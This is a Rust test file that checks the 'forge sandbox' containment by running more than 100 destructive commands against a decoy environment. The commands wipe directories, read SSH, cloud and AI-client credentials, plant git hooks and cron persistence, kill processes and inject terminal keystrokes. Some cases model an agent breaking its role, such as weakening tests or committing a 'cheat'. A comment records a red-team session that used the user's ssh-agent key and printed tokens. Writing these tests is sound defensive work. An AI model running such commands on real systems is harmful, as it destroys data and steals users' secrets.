//! Proof by execution: destructive commands run *for real* inside `forge sandbox` against a decoy
//! world, and nothing outside the profile's scope may change by a byte, no secret may reach the
//! output, the process outside the sandbox must survive, and nothing a contained command started
//! may outlive it.
//!
//! The world is built by `tests/sandbox/world.sh` on a tmpfs inside a throwaway mount and PID
//! namespace (`unshare --mount --pid --fork`) in which every mount of the real machine was first
//! made read-only, so a sandbox bug cannot harm the machine, and a signal sent to everything
//! reaches only that namespace.
//!
//! Needs Landlock ABI ≥ 6 and namespaces (root, or unprivileged user namespaces); elsewhere the
//! tests print `SKIPPED: …` and pass, unless `FORGE_REQUIRE_SANDBOX=1` (set by `.ci/run`).

mod common;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use common::forge_bin;

const REQUIRE_ENV: &str = "FORGE_REQUIRE_SANDBOX";

/// `Some(reason)` when the sandbox cannot be proven here.
fn unavailable() -> Option<String> {
    let o = Command::new(forge_bin())
        .args(["sandbox", "--level", "--json"])
        .output()
        .ok()?;
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    if v["full"] != serde_json::json!(true) {
        return Some(format!(
            "the kernel cannot fully enforce the sandbox here ({})",
            v["describe"].as_str().unwrap_or("unknown")
        ));
    }
    let ok = Command::new("unshare")
        .args(["--mount", "--pid", "--fork", "--mount-proc", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        return Some(
            "cannot make a throwaway mount and PID namespace (`unshare --mount --pid --fork`)"
                .into(),
        );
    }
    None
}

fn skip_or_fail(test: &str) -> bool {
    let Some(why) = unavailable() else {
        return false;
    };
    if std::env::var(REQUIRE_ENV).is_ok_and(|v| v == "1") {
        panic!("{test}: the kernel sandbox is required ({REQUIRE_ENV}=1) but unavailable: {why}");
    }
    eprintln!(
        "\n==== SKIPPED: sandbox::{test}: {why} (set {REQUIRE_ENV}=1 to make this a failure) ====\n"
    );
    true
}

/// One destructive command: the profile, extra `forge sandbox` arguments, the command (a bash
/// script; `$OUTSIDE`, `$REPO`, `$HOME`, `$SENTINEL` are the decoy world's), and a shell check run
/// outside the sandbox afterwards (empty: none) for what must still work.
struct Case {
    class: &'static str,
    profile: &'static str,
    args: &'static str,
    cmd: &'static str,
    check: &'static str,
}

const RED: &str = "--write 'tests/**' --answer $REPO/.tmp/.forge/runs/r/outputs/red-1/answer.json --client claude";
const GREEN: &str =
    "--write 'src/**' --answer $REPO/.tmp/.forge/runs/r/outputs/red-1/answer.json --client claude";
const REVIEW: &str = "--answer $REPO/.tmp/.forge/runs/r/outputs/red-1/answer.json --client claude";
const CHECK: &str = "--write $OUTSIDE/../checkout";

macro_rules! case {
    ($class:expr, $cmd:expr) => {
        Case {
            class: $class,
            profile: "session",
            args: "",
            cmd: $cmd,
            check: "",
        }
    };
    ($class:expr, $profile:expr, $args:expr, $cmd:expr) => {
        Case {
            class: $class,
            profile: $profile,
            args: $args,
            cmd: $cmd,
            check: "",
        }
    };
    ($class:expr, $profile:expr, $args:expr, $cmd:expr, check: $check:expr) => {
        Case {
            class: $class,
            profile: $profile,
            args: $args,
            cmd: $cmd,
            check: $check,
        }
    };
}

fn cases() -> Vec<Case> {
    vec![
        // rm / find / rsync / dd / truncate / mv / chmod
        case!("rm", "rm -rf \"$OUTSIDE\""),
        case!("rm", "rm -rf ~/ 2>&1; rm -rf \"$HOME\"/.*"),
        case!("rm", "rm -rf ~/.ssh ~/.aws"),
        case!("rm", "rm -rf .forge"),
        case!("rm", "rm -rf .forge/*"),
        case!("rm", "rm -rf .git/hooks .git/config .git/info"),
        case!("rm", "rm -rf .claude .tmp/.forge"),
        case!("rm", "rm -f .env"),
        case!("find", "find \"$OUTSIDE\" -delete"),
        case!("find", "find ~ -type f -delete"),
        case!(
            "find",
            "find . -name config.yaml -delete; find .git -name config -delete"
        ),
        case!(
            "find",
            "find / -maxdepth 3 -path \"$OUTSIDE*\" -exec rm -rf {} + 2>/dev/null; true"
        ),
        case!("rsync", "mkdir -p e && rsync -a --delete e/ \"$OUTSIDE\"/"),
        case!("rsync", "mkdir -p e && rsync -a --delete e/ .forge/"),
        case!(
            "rsync",
            "rsync -a ~/.ssh/ ./stolen-ssh/ && cat stolen-ssh/*"
        ),
        case!(
            "dd",
            "dd if=/dev/zero of=\"$OUTSIDE/victim/a.txt\" bs=1 count=10"
        ),
        case!("dd", "dd if=/dev/zero of=.forge/config.yaml bs=1 count=10"),
        case!("dd", "dd if=/dev/vda bs=512 count=1 | od | head -3"),
        case!("truncate", "truncate -s 0 \"$OUTSIDE/victim/a.txt\""),
        case!("truncate", "truncate -s 0 .forge/config.yaml .git/config"),
        case!("truncate", "truncate -s 0 ~/.bashrc ~/.ssh/id_ed25519"),
        case!("truncate", ": > .git/config; : > .claude/settings.json"),
        case!("mv", "mv .forge .forge.bak"),
        case!("mv", "mv .git .git.bak"),
        case!("mv", "mv .tmp .tmp.bak"),
        case!("mv", "mv \"$OUTSIDE/victim\" ./stolen"),
        case!("mv", "mv ~/.ssh/id_ed25519 ./key"),
        case!("mv", "mv .claude .claude.bak"),
        case!("chmod", "chmod -R 000 \"$OUTSIDE\""),
        case!("chmod", "chmod 777 ~/.ssh/id_ed25519"),
        case!("chmod", "chmod -R a-w .forge; chmod 777 .git/hooks"),
        case!("chmod", "chown -R nobody \"$OUTSIDE\" .forge"),
        // Scripts by path
        case!(
            "script",
            "printf '#!/bin/sh\\nrm -rf \"$OUTSIDE\"\\n' > s.sh && chmod +x s.sh && ./s.sh"
        ),
        case!(
            "script",
            "printf 'rm -rf \"$OUTSIDE\"\\n' > s.sh && sh s.sh"
        ),
        case!(
            "script",
            "printf '#!/bin/sh\\necho evil: 1 >> .forge/config.yaml\\n' > s.sh && chmod +x s.sh && ./s.sh"
        ),
        case!(
            "script",
            "printf '#!/bin/sh\\ncat ~/.ssh/id_ed25519\\n' > s.sh && chmod +x s.sh && ./s.sh"
        ),
        case!(
            "script",
            "printf 'import os\\nopen(os.path.expanduser(\"~/.bashrc\"),\"a\").write(\"x\")\\n' > s.py && python3 s.py"
        ),
        case!(
            "script",
            "printf '#!/bin/sh\\nrm -rf \"$OUTSIDE\"\\n' > \"$TMPDIR/x.sh\" && chmod +x \"$TMPDIR/x.sh\" && \"$TMPDIR/x.sh\""
        ),
        case!(
            "script",
            "mkdir -p bin && printf '#!/bin/sh\\nrm -rf \"$OUTSIDE\" .forge\\n' > bin/ls && chmod +x bin/ls && PATH=$PWD/bin:$PATH ls"
        ),
        // make and npm scripts
        case!("make", "make clean OUTSIDE=\"$OUTSIDE\""),
        case!("make", "make leak"),
        case!("make", "make hook"),
        case!(
            "make",
            "printf 'all:\\n\\trm -rf %s\\n' \"$OUTSIDE\" > M2 && make -f M2"
        ),
        case!("npm", "npm run wipe --silent"),
        case!("npm", "npm run plant --silent"),
        case!("npm", "npm run cfg --silent"),
        // Interpreters
        case!(
            "python",
            "python3 -c \"import shutil,os; shutil.rmtree(os.environ['OUTSIDE'])\""
        ),
        case!(
            "python",
            "python3 -c \"import os; print(open(os.path.expanduser('~/.ssh/id_ed25519')).read())\""
        ),
        case!(
            "python",
            "python3 - <<'EOF'\nopen('.forge/config.yaml','w').write('verify: {commands: []}')\nEOF"
        ),
        case!(
            "python",
            "python3 -c \"import os,signal; os.kill(int(os.environ['SENTINEL']), signal.SIGKILL)\""
        ),
        case!(
            "python",
            "python3 -c \"import glob; [print(open(f).read()) for f in glob.glob('/proc/*/environ')]\" 2>/dev/null | tr '\\0' '\\n'"
        ),
        case!(
            "node",
            "node -e \"require('fs').rmSync(process.env.OUTSIDE,{recursive:true,force:true})\""
        ),
        case!(
            "node",
            "node -e \"console.log(require('fs').readFileSync(process.env.HOME+'/.aws/credentials','utf8'))\""
        ),
        case!(
            "node",
            "node -e \"require('fs').writeFileSync('.git/hooks/pre-commit','rm -rf /')\""
        ),
        case!(
            "perl",
            "perl -MFile::Path=rmtree -e 'rmtree($ENV{OUTSIDE})'"
        ),
        case!(
            "perl",
            "perl -e 'open F, \"<$ENV{HOME}/.netrc\" or die $!; print <F>'"
        ),
        case!(
            "perl",
            "perl -e 'kill 9, getppid(); kill 9, $ENV{SENTINEL}; print \"sent\\n\"'"
        ),
        case!(
            "ruby",
            "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(ENV[\"OUTSIDE\"])'"
        ),
        case!(
            "ruby",
            "ruby -e 'puts File.read(File.expand_path(\"~/.git-credentials\"))'"
        ),
        case!(
            "awk",
            "awk 'BEGIN { system(\"rm -rf \" ENVIRON[\"OUTSIDE\"]) }'"
        ),
        case!("awk", "awk '{ print }' ~/.ssh/id_ed25519 ~/.kube/config"),
        case!("sed", "echo x | sed \"1e rm -rf $OUTSIDE\""),
        case!("sed", "sed -i 's/verify/hacked/' .forge/config.yaml"),
        case!("sed", "sed -i '1i evil' ~/.bashrc ~/.gitconfig"),
        case!(
            "sed",
            "sed -n p ~/.config/gcloud/credentials.db ~/.docker/config.json"
        ),
        // git history, config and hooks
        case!("git", "git config user.name evil"),
        case!("git", "git config --global user.name evil"),
        case!("git", "git config core.hooksPath \"$TMPDIR\""),
        case!("git", "git remote add evil \"$OUTSIDE\""),
        case!(
            "git",
            "printf '[alias]\\n\\tx = !rm -rf /\\n' >> .git/config"
        ),
        case!(
            "git",
            "printf '#!/bin/sh\\nrm -rf \"$OUTSIDE\"\\n' > .git/hooks/pre-commit"
        ),
        case!("git", "mkdir -p .git/info && echo '*' > .git/info/exclude"),
        case!("git", "git init \"$OUTSIDE/newrepo\""),
        case!("git", "git clone -q . \"$OUTSIDE/clone\""),
        case!("git", "git worktree add ../wt"),
        case!("git", "echo 'gitdir: /tmp' > .git/commondir; git status"),
        case!("git", "session", "", "echo v2 > src/lib.rs && git add -A && git commit -qm two",
            check: "git log --oneline | grep -q two"),
        case!("git", "session", "", "git commit -q --allow-empty -m three && git reset -q --hard HEAD~1",
            check: "test \"$(git log --oneline | wc -l)\" = 1"),
        case!("git", "session", "", "git checkout -q -b feature && git stash list",
            check: "git rev-parse --verify -q feature"),
        // Killing the parent forge, or anything outside
        case!("kill", "kill -9 $PPID; kill -9 $SENTINEL; kill -TERM 1"),
        case!(
            "kill",
            "session",
            "--contain",
            "kill -9 $PPID; kill -9 1; kill -9 $SENTINEL"
        ),
        case!("kill", "kill -9 -1"),
        case!("kill", "pkill -9 -f 'sleep 100000'"),
        case!(
            "kill",
            "for p in /proc/[0-9]*; do kill -9 ${p#/proc/} 2>/dev/null; done; true"
        ),
        case!(
            "kill",
            "strace -p $SENTINEL -o /dev/null & sleep 0.2; kill %1"
        ),
        // nohup / setsid / at / cron / screen, contained
        case!(
            "survive",
            "session",
            "--contain",
            "nohup sleep 7701 >/dev/null 2>&1 &"
        ),
        case!("survive", "session", "--contain", "setsid sleep 7702 &"),
        case!("survive", "session", "--contain", "(sleep 7703 &) ; true"),
        case!(
            "survive",
            "session",
            "--contain",
            "setsid -f sh -c 'sleep 7704'"
        ),
        case!("survive", "session", "--contain", "sleep 7705 & disown"),
        case!(
            "survive",
            "session",
            "--contain",
            "screen -dmS x sleep 7706; true"
        ),
        case!(
            "survive",
            "session",
            "--contain",
            "python3 -c \"import os,time\nif os.fork()==0:\n  os.setsid()\n  if os.fork()==0: os.execvp('sleep',['sleep','7707'])\""
        ),
        case!(
            "survive",
            "session",
            "--contain",
            "nohup sh -c 'sleep 0.3; rm -rf \"$OUTSIDE\"' >/dev/null 2>&1 &"
        ),
        case!("survive", "echo \"rm -rf $OUTSIDE\" | at now 2>&1; true"),
        case!(
            "survive",
            "echo \"* * * * * rm -rf $OUTSIDE\" | crontab - 2>&1; true"
        ),
        case!("survive", "echo '@reboot rm -rf /' >> ~/.bashrc"),
        // Symlink and hard-link tricks
        case!("link", "ln -s ~/.ssh/id_ed25519 key && cat key"),
        case!("link", "ln ~/.ssh/id_ed25519 hard && cat hard"),
        case!("link", "ln -s \"$OUTSIDE\" o && rm -rf o/"),
        case!("link", "ln -s / root && rm -rf \"root$OUTSIDE\""),
        case!("link", "ln .forge/config.yaml cfg && echo x >> cfg"),
        case!(
            "link",
            "ln .git/config gc && echo '[core] hooksPath=/tmp' >> gc"
        ),
        case!("link", "ln -s .forge f && echo x > f/config.yaml"),
        case!(
            "link",
            "ln -s \"$REPO/.git/config\" \"$TMPDIR/gc\" && echo x >> \"$TMPDIR/gc\""
        ),
        case!("link", "cp -a ~/.ssh ./ssh-copy; cat ssh-copy/*"),
        case!(
            "link",
            "tar cf - -C ~ .ssh .aws | tar xf - -C . ; cat .ssh/* .aws/*"
        ),
        // /proc
        case!("proc", "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'"),
        case!(
            "proc",
            "cat /proc/$PPID/environ /proc/$SENTINEL/environ | tr '\\0' '\\n'"
        ),
        case!("proc", "echo x > /proc/$SENTINEL/root$OUTSIDE/victim/a.txt"),
        case!("proc", "cat /proc/$SENTINEL/root$HOME/.ssh/id_ed25519"),
        case!(
            "proc",
            "ls /proc/$SENTINEL/cwd/ && rm -rf /proc/$SENTINEL/cwd/*"
        ),
        case!("proc", "env; cat /proc/self/environ | tr '\\0' '\\n'"),
        // Secrets
        case!(
            "secret",
            "cat ~/.aws/credentials ~/.netrc ~/.git-credentials"
        ),
        case!("secret", "cat ~/.cargo/credentials.toml ~/.npmrc ~/.pypirc"),
        case!(
            "secret",
            "cat ~/.claude/.credentials.json ~/.codex/auth.json ~/.gemini/oauth_creds.json"
        ),
        case!("secret", "cat .env; cat ~/.bash_history"),
        case!("secret", "grep -r FORGE-SECRET ~ . 2>/dev/null"),
        case!(
            "secret",
            "base64 ~/.gnupg/private-keys-v1.d/k.key; cat ~/.config/gh/hosts.yml"
        ),
        case!("secret", "cat /etc/shadow"),
        // The other profiles
        case!("red", "red", RED, "echo 'ok 2' > tests/b_test.sh", check: "test -f tests/b_test.sh"),
        case!("red", "red", RED, "echo x > src/lib.rs"),
        case!("red", "red", RED, "rm -rf src; echo hacked > README.md"),
        case!("red", "red", RED, "git add -A && git commit -qm cheat"),
        case!("red", "red", RED, "echo '{}' > \"$REPO/.tmp/.forge/runs/r/outputs/red-1/answer.json\"",
            check: "test -f .tmp/.forge/runs/r/outputs/red-1/answer.json"),
        case!("red", "red", RED, "echo x > .tmp/.forge/runs/r/state.json"),
        case!(
            "red",
            "red",
            RED,
            "cat ~/.codex/auth.json ~/.ssh/id_ed25519"
        ),
        case!("red", "red", RED, "cat ~/.claude/.credentials.json", check: "true"),
        case!("green", "green", GREEN, "echo 'pub fn g() {}' >> src/lib.rs", check: "grep -q g src/lib.rs"),
        case!(
            "green",
            "green",
            GREEN,
            "echo 'ok 1 # weakened' > tests/a_test.sh"
        ),
        case!(
            "review",
            "review",
            REVIEW,
            "echo x > tests/a_test.sh; echo y > src/lib.rs"
        ),
        case!("check", "check", CHECK, "echo built > \"$OUTSIDE/../checkout/out\"", check: "test -f ../checkout/out"),
        case!(
            "check",
            "check",
            CHECK,
            "rm -rf \"$REPO\"/* \"$REPO\"/.forge"
        ),
        case!(
            "check",
            "check",
            CHECK,
            "cat ~/.claude/.credentials.json ~/.ssh/id_ed25519"
        ),
        // What a session must still be able to do
        case!("works", "session", "", "echo new > at-the-root.txt && mkdir -p build && touch build/x && echo t > \"$TMPDIR/t\"",
            check: "test -f at-the-root.txt && test -f build/x"),
        case!("works", "session", "", "cat .forge/config.yaml >/dev/null && cat ~/.bashrc ~/.ssh/id_ed25519.pub && ls ~ >/dev/null",
            check: "true"),
    ]
}

#[test]
fn destructive_commands_change_nothing_outside_the_profile() {
    if skip_or_fail("destructive_commands_change_nothing_outside_the_profile") {
        return;
    }
    let cases = cases();
    assert!(cases.len() >= 100, "{} commands", cases.len());
    // A case whose tool is missing still runs (and must still change nothing), but proves less:
    // say so. `.ci/run` installs them.
    let missing: Vec<&str> = [
        "rsync", "ruby", "screen", "at", "crontab", "node", "npm", "python3", "perl", "make",
        "strace",
    ]
    .into_iter()
    .filter(|t| {
        !Command::new("sh")
            .args(["-c", &format!("command -v {t}")])
            .output()
            .is_ok_and(|o| o.status.success())
    })
    .collect();
    if !missing.is_empty() {
        eprintln!("sandbox: not installed here, their cases run as 'not found': {missing:?}");
    }
    let dir = tempfile::tempdir().unwrap();
    let casedir = dir.path().join("cases");
    let world = dir.path().join("world");
    std::fs::create_dir_all(&casedir).unwrap();
    std::fs::create_dir_all(&world).unwrap();
    for (i, c) in cases.iter().enumerate() {
        std::fs::write(casedir.join(format!("{i:03}.cmd")), c.cmd).unwrap();
        std::fs::write(
            casedir.join(format!("{i:03}.meta")),
            format!("{}\t{}\t{}\n", c.profile, c.args, c.check),
        )
        .unwrap();
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sandbox/world.sh");
    let o = Command::new("unshare")
        .args([
            "--mount",
            "--pid",
            "--fork",
            "--mount-proc",
            "--propagation",
            "private",
            "bash",
        ])
        .arg(&script)
        .arg(forge_bin())
        .arg(&world)
        .arg(&casedir)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(
        !stdout.contains("FATAL"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let outputs: std::collections::HashMap<&str, &str> = stdout
        .lines()
        .filter_map(|l| l.strip_prefix("OUTPUT "))
        .filter_map(|l| l.split_once(' '))
        .collect();
    let mut failures = Vec::new();
    let mut ran = 0;
    let mut by_class: std::collections::BTreeMap<&str, usize> = Default::default();
    for line in stdout.lines().filter_map(|l| l.strip_prefix("RESULT ")) {
        let f: Vec<&str> = line.split(' ').collect();
        let (id, rc, changed, leaked, alive, leftovers, ok) =
            (f[0], f[1], f[2], f[3], f[4], f[5], f[6]);
        let i: usize = id.parse().unwrap();
        let c = &cases[i];
        ran += 1;
        *by_class.entry(c.class).or_default() += 1;
        let mut why = Vec::new();
        if changed != "-" {
            why.push(format!("changed outside its scope: {changed}"));
        }
        if leaked != "-" {
            why.push(format!("secret bytes in the output: {leaked}"));
        }
        if alive != "yes" {
            why.push("the process outside the sandbox was killed".to_string());
        }
        if leftovers != "-" {
            why.push(format!("processes outlived containment: {leftovers}"));
        }
        if ok != "yes" {
            why.push("what the profile allows did not work".to_string());
        }
        if rc == "125" {
            why.push("the sandbox could not be set up (exit 125)".to_string());
        }
        if !why.is_empty() {
            failures.push(format!(
                "#{id} [{}] {} {}: {:?}\n    {}\n    output: {}",
                c.class,
                c.profile,
                c.args,
                c.cmd,
                why.join("; "),
                outputs.get(id).unwrap_or(&"")
            ));
        }
    }
    eprintln!("sandbox: {ran} destructive commands run for real, by class: {by_class:?}");
    assert_eq!(
        ran,
        cases.len(),
        "not every case ran:\n{stdout}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(
        failures.is_empty(),
        "{} of {ran} failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Without the sandbox (`--mode off`) the same world does get hurt: the suite can fail.
#[test]
fn the_world_is_hurt_without_the_sandbox() {
    if skip_or_fail("the_world_is_hurt_without_the_sandbox") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let casedir = dir.path().join("cases");
    let world = dir.path().join("world");
    std::fs::create_dir_all(&casedir).unwrap();
    std::fs::create_dir_all(&world).unwrap();
    let cmds = [
        "rm -rf \"$OUTSIDE\"",
        "echo evil >> .forge/config.yaml",
        "cat ~/.ssh/id_ed25519",
        "cat /proc/$SENTINEL/environ | tr '\\0' '\\n'",
    ];
    for (i, c) in cmds.iter().enumerate() {
        std::fs::write(casedir.join(format!("{i:03}.cmd")), c).unwrap();
        std::fs::write(
            casedir.join(format!("{i:03}.meta")),
            "session\t--mode off\t\n",
        )
        .unwrap();
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sandbox/world.sh");
    let o = Command::new("unshare")
        .args([
            "--mount",
            "--pid",
            "--fork",
            "--mount-proc",
            "--propagation",
            "private",
            "bash",
        ])
        .arg(&script)
        .arg(forge_bin())
        .arg(&world)
        .arg(&casedir)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    let results: Vec<Vec<&str>> = stdout
        .lines()
        .filter_map(|l| l.strip_prefix("RESULT "))
        .map(|l| l.split(' ').collect())
        .collect();
    assert_eq!(results.len(), 4, "{stdout}");
    assert!(results[0][2].contains("outside"), "{stdout}");
    assert!(results[1][2].contains(".forge/config.yaml"), "{stdout}");
    assert_ne!(results[2][3], "-", "{stdout}");
    assert_ne!(results[3][3], "-", "{stdout}");
}

/// `forge sandbox --profile session -- ARGS` in `r`, with the repository's TMPDIR.
fn in_session(r: &common::Repo, args: &[&str]) -> std::process::Output {
    Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--"])
        .args(args)
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap()
}

/// `forge sandbox --profile session --project PROJECT --tmpdir <t>/tmp -- sh -c SCRIPT`, run in
/// `cwd` with `HOME` set to a decoy home (`t`'s `home`, the TMPDIR outside it).
fn in_session_at_home(project: &Path, t: &Path, cwd: &Path, script: &str) -> std::process::Output {
    Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--project"])
        .arg(project)
        .arg("--tmpdir")
        .arg(t.join("tmp"))
        .args(["--", "sh", "-c", script])
        .current_dir(cwd)
        .env("HOME", t.join("home"))
        .output()
        .unwrap()
}

fn forge(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(forge_bin())
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

#[test]
fn usage_errors_exit_codes_and_mode_off() {
    let r = common::Repo::with_command("true", "none");
    let o = forge(r.path(), &["sandbox", "--profile", "blue", "--", "true"]);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown profile `blue`"));
    let o = forge(r.path(), &["sandbox", "--profile", "red"]);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    // Off: CMD runs as it is, with its exit code.
    let o = forge(
        r.path(),
        &[
            "sandbox",
            "--mode",
            "off",
            "--",
            "sh",
            "-c",
            "echo hi > x; exit 7",
        ],
    );
    assert_eq!(o.status.code(), Some(7), "{o:?}");
    assert!(r.exists("x"));
    let o = forge(
        r.path(),
        &["sandbox", "--mode", "off", "--", "/no/such/program"],
    );
    assert_eq!(o.status.code(), Some(127), "{o:?}");
}

#[test]
fn status_shows_the_sandbox_in_force() {
    let r = common::Repo::with_command("true", "none");
    let o = forge(r.path(), &["status", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["sandbox"]["mode"], "auto", "{v}");
    assert!(v["sandbox"]["in_force"].as_str().is_some(), "{v}");
    r.config("verify:\n  commands:\n    - {name: t, run: 'true'}\nsandbox:\n  mode: off\n");
    let o = forge(r.path(), &["status"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("Sandbox:       off (`sandbox.mode: off`)"),
        "{out}"
    );
}

#[test]
fn explain_lists_what_the_session_may_write() {
    let r = common::Repo::with_command("true", "none");
    let o = forge(r.path(), &["sandbox", "--explain", "--json"]);
    assert_eq!(o.status.code(), Some(0), "{o:?}");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let root = r.path().canonicalize().unwrap();
    let ro: Vec<&str> = v["plan"]["read_only"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|x| x.as_str())
        .collect();
    assert!(ro.contains(&root.join(".forge").to_str().unwrap()), "{v}");
    assert!(
        ro.contains(&root.join(".git/config").to_str().unwrap()),
        "{v}"
    );
    let write: Vec<&str> = v["plan"]["write"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|x| x.as_str())
        .collect();
    assert!(write.contains(&root.to_str().unwrap()), "{v}");
    // Home is read by allowlist: a hole, with the toolchains granted inside it, in both forms.
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".cargo")).unwrap();
    let h = home.path().canonicalize().unwrap();
    let o = r.forge_env(&["sandbox", "--explain", "--json"], &[("HOME", &h)]);
    let v: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
    let has = |key: &str, p: &Path| {
        v["plan"][key]
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x.as_str() == p.to_str())
    };
    assert!(has("holes", &h), "{v}");
    assert!(has("read_inside_holes", &h.join(".cargo")), "{v}");
    let o = r.forge_env(&["sandbox", "--explain"], &[("HOME", &h)]);
    let cargo = format!("  {}\n", h.join(".cargo").display());
    let (_, inside) = o
        .stdout
        .split_once("But may read, inside those (less the secrets in them):\n")
        .unwrap_or_else(|| panic!("{}", o.stdout));
    assert!(inside.contains(&cargo), "{}", o.stdout);
}

#[test]
fn containment_ends_what_cmd_left_and_relays_exit_and_signals() {
    if skip_or_fail("containment_ends_what_cmd_left_and_relays_exit_and_signals") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let marker = format!("77{}", std::process::id() % 100);
    // Left running three ways; all gone when CMD exits; CMD's exit code comes back.
    let o = forge(
        r.path(),
        &[
            "sandbox",
            "--contain",
            "--",
            "sh",
            "-c",
            &format!(
                "setsid sleep 3{marker} & (sleep 4{marker} &); nohup sleep 5{marker} >/dev/null 2>&1 & exit 9"
            ),
        ],
    );
    assert_eq!(o.status.code(), Some(9), "{o:?}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    let left = Command::new("pgrep")
        .args(["-f", &format!("sleep [345]{marker}")])
        .output()
        .unwrap();
    assert!(
        left.stdout.is_empty(),
        "left running: {}",
        String::from_utf8_lossy(&left.stdout)
    );
    // SIGTERM to `forge sandbox` reaches a shell that is not PID 1, which handles it.
    let mut child = Command::new(forge_bin())
        .args([
            "sandbox",
            "--contain",
            "--",
            "sh",
            "-c",
            "trap 'exit 5' TERM; sleep 30 & wait",
        ])
        .current_dir(r.path())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(5));
    // A CMD killed by a signal: `forge sandbox` dies of the same signal.
    let o = forge(
        r.path(),
        &["sandbox", "--contain", "--", "sh", "-c", "kill -KILL $$"],
    );
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(o.status.signal(), Some(9), "{o:?}");
}

/// A sandboxed command cannot push keystrokes into the terminal of whoever started it (`TIOCSTI`,
/// allowed where `dev.tty.legacy_tiocsti=1`): it gives up its controlling terminal first.
#[test]
fn no_keystrokes_into_the_callers_terminal() {
    if skip_or_fail("no_keystrokes_into_the_callers_terminal") {
        return;
    }
    let have = |c: &str| {
        Command::new("sh")
            .args(["-c", &format!("command -v {c}")])
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if !have("script") || !have("python3") {
        eprintln!(
            "SKIPPED: sandbox::no_keystrokes_into_the_callers_terminal: needs `script` and `python3`"
        );
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let inject = "import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('INJECTED')";
    let inner = format!(
        "{} sandbox -- python3 -c \"{inject}\"; true",
        forge_bin().display()
    );
    let o = Command::new("script")
        .args([
            "-qc",
            &format!("bash -c '{}'", inner.replace('\'', "'\\''")),
            "/dev/null",
        ])
        .current_dir(r.path())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains("INJECTED"), "{out}");
    assert!(out.contains("Operation not permitted"), "{out}");
}

/// Red team: with the person's `ssh-agent` socket in reach, a session listed their key and
/// signed with it, and printed `HF_TOKEN` and `DATABASE_URL`. A daemon's socket (SSH agent,
/// Docker, D-Bus, …) is covered inside the sandbox: connecting to it fails, while the same
/// connect outside succeeds; credentials in the environment are removed by their names' shape.
#[test]
fn the_ssh_agent_socket_and_credentials_in_the_environment_are_out_of_reach() {
    if skip_or_fail("the_ssh_agent_socket_and_credentials_in_the_environment_are_out_of_reach") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let dir = tempfile::tempdir().unwrap();
    let agent_dir = dir.path().join("ssh-Xq1z9");
    std::fs::create_dir(&agent_dir).unwrap();
    let sock = agent_dir.join("agent.4242");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let probe = "import os, sys, socket\nprint('env:', [k for k in ('HF_TOKEN', 'DATABASE_URL', 'SLACK_BOT_TOKEN', 'MY_SERVICE_API_KEY', 'HOME') if k in os.environ])\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(sys.argv[1])\n    print('connected')\nexcept OSError as e:\n    print('refused', e)\n";
    let run = |sandboxed: bool| {
        let mut args = vec!["sandbox"];
        if !sandboxed {
            args.extend(["--mode", "off"]);
        }
        let sock_arg = sock.display().to_string();
        args.extend([
            "--profile",
            "session",
            "--",
            "python3",
            "-c",
            probe,
            &sock_arg,
        ]);
        let o = Command::new(forge_bin())
            .args(&args)
            .current_dir(r.path())
            .env("SSH_AUTH_SOCK", &sock)
            .env("HF_TOKEN", "hf_x")
            .env("DATABASE_URL", "postgres://u:pw@h/db")
            .env("SLACK_BOT_TOKEN", "xoxb")
            .env("MY_SERVICE_API_KEY", "k")
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let outside = run(false);
    assert!(
        outside.contains("connected"),
        "the probe itself works: {outside}"
    );
    let inside = run(true);
    assert!(inside.contains("refused"), "{inside}");
    // Nor do credentials in the environment reach it, named in a list or not.
    assert!(inside.contains("env: ['HOME']"), "{inside}");
}

/// Python that connects to the Unix socket its first argument names and prints `connected` or
/// `refused` (no single quote in it, so a shell line can hold it quoted).
